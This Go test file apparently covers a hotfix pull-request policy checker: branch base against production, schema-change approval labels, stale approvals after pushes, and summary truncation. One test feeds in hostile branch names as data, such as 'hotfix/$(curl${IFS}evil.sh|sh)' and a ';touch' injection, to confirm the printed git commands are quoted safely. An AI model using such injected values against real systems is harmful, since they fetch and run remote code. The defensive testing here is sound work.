package policy

import (
	"strings"
	"testing"
	"time"
)

var prod = ProductionState{Known: true, SHA: "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", Tag: "v1.4.2", Source: "deployment 7 (success)"}

func TestEvaluateBase(t *testing.T) {
	tests := []struct {
		name       string
		facts      BaseFacts
		conclusion string
		contains   []string
	}{
		{
			name:       "cut from the production tag",
			facts:      BaseFacts{Branch: "hotfix/pay", Head: "h", Production: prod, MergeBase: prod.SHA},
			conclusion: Success,
			contains:   []string{"Starts at production (v1.4.2)", "carries nothing unreleased"},
		},
		{
			name:       "cut from an old tag",
			facts:      BaseFacts{Branch: "hotfix/pay", Head: "h", Production: prod, MergeBase: "bbbbbbbbbbbb", MergeBaseTag: "v1.4.1", BehindBy: 3},
			conclusion: Failure,
			contains: []string{"3 commits behind v1.4.2", "`bbbbbbb` (v1.4.1)", "3 commits behind production",
				"git rebase --onto v1.4.2 bbbbbbbbbbbb hotfix/pay", "git switch -c hotfix/pay-2 v1.4.2"},
		},
		{
			name: "cut from develop, which contains production",
			facts: BaseFacts{Branch: "hotfix/pay", Head: "h", Production: prod, MergeBase: prod.SHA,
				Unreleased: []UnreleasedCommits{{Branch: "develop", Count: 7, ForkPoint: "dddddddddddd",
					Commits: []Commit{{"c1c1c1c1c1", "New checkout"}, {"c2c2c2c2c2", "Drop legacy API"}}}}},
			conclusion: Failure,
			contains: []string{"Carries 7 unreleased commits", "7 commits from `develop` that production does not have",
				"`c1c1c1c` New checkout", "… and 5 more", "git rebase --onto v1.4.2 dddddddddddd hotfix/pay"},
		},
		{
			name: "behind and unreleased",
			facts: BaseFacts{Branch: "hotfix/x", Production: prod, MergeBase: "old", BehindBy: 1,
				Unreleased: []UnreleasedCommits{{Branch: "release/1.5", Count: 1, ForkPoint: "fp"}, {Branch: "develop", Count: 0}}},
			conclusion: Failure,
			contains:   []string{"1 unreleased commit, 1 behind v1.4.2", "1 commit from `release/1.5`", "--onto v1.4.2 fp hotfix/x"},
		},
		{
			name:       "untagged production commit",
			facts:      BaseFacts{Branch: "hotfix/x", Production: ProductionState{Known: true, SHA: "cafecafecafecafe", Source: "deployment 9"}, MergeBase: "old", BehindBy: 2},
			conclusion: Failure,
			contains:   []string{"behind untagged cafecaf", "git rebase --onto cafecafecafecafe old hotfix/x", "production commit"},
		},
		{
			name: "a branch name that would run a command, and commit titles that mention a team",
			facts: BaseFacts{Branch: "hotfix/$(curl${IFS}evil.sh|sh)", Production: prod, MergeBase: prod.SHA,
				Unreleased: []UnreleasedCommits{{Branch: "release/1.5;touch${IFS}x", Count: 1, ForkPoint: "fp",
					Commits: []Commit{{"c1c1c1c1c1", "Ping @acme/everyone `now`"}}}}},
			conclusion: Failure,
			contains: []string{"git rebase --onto v1.4.2 fp 'hotfix/$(curl${IFS}evil.sh|sh)'",
				"git push --force-with-lease origin 'hotfix/$(curl${IFS}evil.sh|sh)'",
				"git switch -c 'hotfix/$(curl${IFS}evil.sh|sh)-2' v1.4.2", "from `release/1.5;touch${IFS}x`",
				"Ping @\u200dacme/everyone 'now'"},
		},
		{
			name:       "a branch name no quoting makes safe",
			facts:      BaseFacts{Branch: "hotfix/\u202eevil", Production: prod, MergeBase: "old", BehindBy: 1},
			conclusion: Failure,
			contains:   []string{"prints no command", "invisible formatting", "git branch -m"},
		},
		{
			name:       "fork",
			facts:      BaseFacts{Branch: "hotfix/evil", Production: prod, ForkRepo: "mallory/pay"},
			conclusion: Failure,
			contains:   []string{"hotfix PRs must come from a branch of this repository", "mallory/pay"},
		},
		{
			name:       "no production yet",
			facts:      BaseFacts{Branch: "hotfix/x"},
			conclusion: Failure,
			contains:   []string{"no successful deployment", "git tag v1.0.0", "production.tag_pattern"},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := EvaluateBase(tt.facts)
			if r.Name != CheckBase || r.Conclusion != tt.conclusion {
				t.Fatalf("= %s %s, want %s", r.Name, r.Conclusion, tt.conclusion)
			}
			text := r.Title + "\n" + r.Summary
			for _, want := range tt.contains {
				if !strings.Contains(text, want) {
					t.Errorf("missing %q in:\n%s", want, text)
				}
			}
			if strings.Contains(tt.facts.Branch, "\u202e") && strings.Contains(text, "git rebase") {
				t.Errorf("a command with a name that shows other than what runs:\n%s", text)
			}
		})
	}
}

func TestSchemaGate(t *testing.T) {
	c := Default()
	approvedBy := func(login string) ApprovalVerdict {
		return c.Approve(ApprovalFacts{Author: "dev", HeadPushedAt: time.Unix(50, 0), Labels: map[string]LabelFact{
			"schema-approved": {Present: true, AddedBy: login, Permission: PermissionWrite, Role: "write", AddedAt: time.Unix(100, 0)},
		}}, c.Approval.SchemaLabels)
	}
	tests := []struct {
		name       string
		facts      SchemaFacts
		approval   ApprovalVerdict
		flagged    bool
		conclusion string
		contains   []string
		annots     int
	}{
		{"no schema files", SchemaFacts{Production: prod, Files: []string{"pay/timeout.go", "README.md"}, Complete: true}, nil,
			false, Success, []string{"No schema files changed (2 files checked"}, 0},
		{"migration", SchemaFacts{Production: prod, Files: []string{"pay/timeout.go", "db/migrations/042_index.sql"}, Complete: true}, approvedBy("dev"),
			true, ActionRequired, []string{"db/migrations/042_index.sql", "`schema-approved`", "the author of this pull request"}, 1},
		{"migration approved", SchemaFacts{Production: prod, Files: []string{"db/schema.rb"}, Complete: true}, approvedBy("dba"),
			true, Success, []string{"Approved: `schema-approved` by @dba"}, 1},
		{"incomplete list is flagged", SchemaFacts{Production: prod, Files: []string{"a.go"}, Complete: false, Incomplete: "GitHub listed 3000 of the files."}, nil,
			true, ActionRequired, []string{"Treated as a schema change", "GitHub listed 3000 of the files.", "never passes"}, 0},
		{"no production", SchemaFacts{}, nil, true, Failure, []string{"Production is unknown"}, 0},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v := c.ReadSchema(tt.facts)
			if v.Flagged != tt.flagged {
				t.Errorf("flagged = %v, want %v", v.Flagged, tt.flagged)
			}
			r := c.EvaluateSchema(tt.facts, v, tt.approval)
			if r.Conclusion != tt.conclusion {
				t.Fatalf("conclusion = %s, want %s\n%s", r.Conclusion, tt.conclusion, r.Summary)
			}
			for _, want := range tt.contains {
				if !strings.Contains(r.Title+"\n"+r.Summary, want) {
					t.Errorf("missing %q in:\n%s", want, r.Summary)
				}
			}
			if len(r.Annotations) != tt.annots {
				t.Errorf("annotations = %d, want %d", len(r.Annotations), tt.annots)
			}
		})
	}
}

func TestApproval(t *testing.T) {
	pushed := time.Date(2026, 11, 23, 3, 10, 0, 0, time.UTC)
	after, before := pushed.Add(time.Minute), pushed.Add(-time.Minute)
	label := func(by string, perm Permission, at time.Time) LabelFact {
		return LabelFact{Present: true, AddedBy: by, Permission: perm, Role: string(perm), AddedAt: at}
	}
	tests := []struct {
		name   string
		mutate func(*Config)
		fact   *LabelFact
		valid  bool
		reason string
	}{
		{"valid", nil, ptr(label("bob", PermissionWrite, after)), true, "added by @bob (write)"},
		{"missing", nil, nil, false, "missing: after reviewing, someone with write permission or more other than the author adds it"},
		{"removed", nil, &LabelFact{Present: false, AddedBy: "bob"}, false, "missing"},
		{"by the author", nil, ptr(label("dev", PermissionAdmin, after)), false, "added by @dev, the author of this pull request; someone else must approve"},
		{"by the author, allowed", func(c *Config) { c.Approval.AllowAuthor = true }, ptr(label("dev", PermissionAdmin, after)), true, "added by @dev"},
		{"read-only user", nil, ptr(label("intern", PermissionRead, after)), false, "added by @intern, whose permission is read; approval needs write or more"},
		{"custom role below", func(c *Config) { c.Approval.Permission = PermissionMaintain },
			&LabelFact{Present: true, AddedBy: "qa", Permission: PermissionWrite, Role: "qa-lead", AddedAt: after}, false, "whose permission is write (role qa-lead); approval needs maintain"},
		{"bot", nil, &LabelFact{Present: true, AddedBy: "renovate[bot]", AddedByBot: true, Permission: PermissionWrite, AddedAt: after}, false, "added by the bot @renovate[bot]"},
		{"before the push", nil, ptr(label("bob", PermissionWrite, before)), false, "not after the latest push (`abcdef1` at 03:10:00 UTC)"},
		// The same second as the push cannot be told apart from before it.
		{"in the second of the push", nil, ptr(label("bob", PermissionWrite, pushed)), false, "not after the latest push"},
		{"before the push, reset off", func(c *Config) { c.Approval.ResetOnPush = false }, ptr(label("bob", PermissionWrite, before)), true, "added by @bob"},
		{"unknown adder", nil, &LabelFact{Present: true}, false, "does not say who added it"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			c := Default()
			if tt.mutate != nil {
				tt.mutate(&c)
			}
			f := ApprovalFacts{Author: "dev", Head: "abcdef1234", HeadPushedAt: pushed, Labels: map[string]LabelFact{}}
			if tt.fact != nil {
				f.Labels["hotfix-approved"] = *tt.fact
			}
			v := c.Approve(f, c.RequiredLabels(false))
			if len(v) != 1 || v[0].Valid != tt.valid || !strings.Contains(v[0].Reason, tt.reason) {
				t.Fatalf("verdict = %+v, want valid=%v reason %q", v, tt.valid, tt.reason)
			}
			if tt.fact != nil && tt.valid {
				// The same label, with the push time unknown: it must not
				// count while reset_on_push is on (it may predate the push).
				f.HeadPushedAt = time.Time{}
				unknown := c.Approve(f, c.RequiredLabels(false))
				if c.Approval.ResetOnPush && (unknown[0].Valid || !strings.Contains(unknown[0].Reason, "cannot tell yet when `abcdef1` was pushed")) {
					t.Errorf("push time unknown: %+v, want not counted", unknown)
				}
				if !c.Approval.ResetOnPush && !unknown[0].Valid {
					t.Errorf("push time unknown, reset_on_push off: %+v, want counted", unknown)
				}
			}
			r := c.EvaluateApproval(v)
			want := map[bool]string{true: Success, false: Failure}[tt.valid]
			if r.Conclusion != want || !strings.Contains(r.Summary, "hotfix-approved") {
				t.Errorf("check = %s %q", r.Conclusion, r.Summary)
			}
		})
	}

	c := Default()
	if got := c.RequiredLabels(true); strings.Join(got, ",") != "hotfix-approved,schema-approved" {
		t.Errorf("RequiredLabels(schema) = %v", got)
	}
	c.Approval.Labels = nil
	if r := c.EvaluateApproval(c.Approve(ApprovalFacts{}, c.RequiredLabels(false))); r.Conclusion != Success {
		t.Errorf("no labels configured: %s", r.Conclusion)
	}
}

func TestStaleApprovals(t *testing.T) {
	c := Default()
	pushed := time.Unix(1000, 0)
	f := ApprovalFacts{HeadPushedAt: pushed, Labels: map[string]LabelFact{
		"hotfix-approved": {Present: true, AddedBy: "bob", AddedAt: pushed.Add(-time.Second)},
		// Added after the push (a reviewer quicker than the bot): stays.
		"schema-approved": {Present: true, AddedBy: "dba", AddedAt: pushed.Add(time.Second)},
		// Not an approval label: never touched.
		"bug": {Present: true, AddedBy: "bob", AddedAt: pushed.Add(-time.Hour)},
	}}
	stale := c.StaleApprovals(f)
	if len(stale) != 1 || stale[0].Name != "hotfix-approved" || stale[0].AddedBy != "bob" {
		t.Errorf("StaleApprovals = %+v, want only hotfix-approved", stale)
	}
	c.Approval.ResetOnPush = false
	if got := c.StaleApprovals(f); len(got) != 0 {
		t.Errorf("reset_on_push off: %+v", got)
	}
	c = Default()
	f.HeadPushedAt = time.Time{}
	if got := c.StaleApprovals(f); len(got) != 2 {
		t.Errorf("an unknown push time makes every approval stale: %+v", got)
	}
	f.HeadPushedAt = pushed
	f.Labels["schema-approved"] = LabelFact{Present: true, AddedBy: "dba", AddedAt: pushed}
	if got := c.StaleApprovals(f); len(got) != 2 {
		t.Errorf("a label in the same second as the push is stale: %+v", got)
	}
}

func TestApprovalFactsUnknown(t *testing.T) {
	c := Default()
	f := ApprovalFacts{Author: "dev", Head: "abc", HeadPushedAt: time.Unix(10, 0), Labels: map[string]LabelFact{
		"hotfix-approved": {Present: true, AddedBy: "bob", Permission: PermissionAdmin, AddedAt: time.Unix(20, 0), Unknown: "the log lags"},
	}}
	if v := c.Approve(f, c.RequiredLabels(false)); v.Valid() || !strings.Contains(v[0].Reason, "cannot tell: the log lags") {
		t.Errorf("a label whose state is unknown counted: %+v", v)
	}
	f.Labels["hotfix-approved"] = LabelFact{Present: true, AddedBy: "bob", Permission: PermissionAdmin, AddedAt: time.Unix(20, 0)}
	f.Unknown = "GitHub answered 502"
	if v := c.Approve(f, c.RequiredLabels(false)); v.Valid() || !strings.Contains(v[0].Reason, "GitHub answered 502") {
		t.Errorf("an unreadable event log let a label count: %+v", v)
	}
}

func ptr[T any](v T) *T { return &v }

func TestFit(t *testing.T) {
	short := "fine"
	if Fit(short) != short {
		t.Error("Fit changed a short summary")
	}
	long := strings.Repeat("é", MaxSummary) // two bytes each
	got := Fit(long)
	if len(got) > MaxSummary || !strings.HasSuffix(got, "65535-character limit)") {
		t.Errorf("Fit: %d bytes, suffix %q", len(got), got[len(got)-40:])
	}
	if !strings.HasPrefix(got, "éé") || strings.Contains(got, "\uFFFD") {
		t.Error("Fit cut inside a character")
	}
}
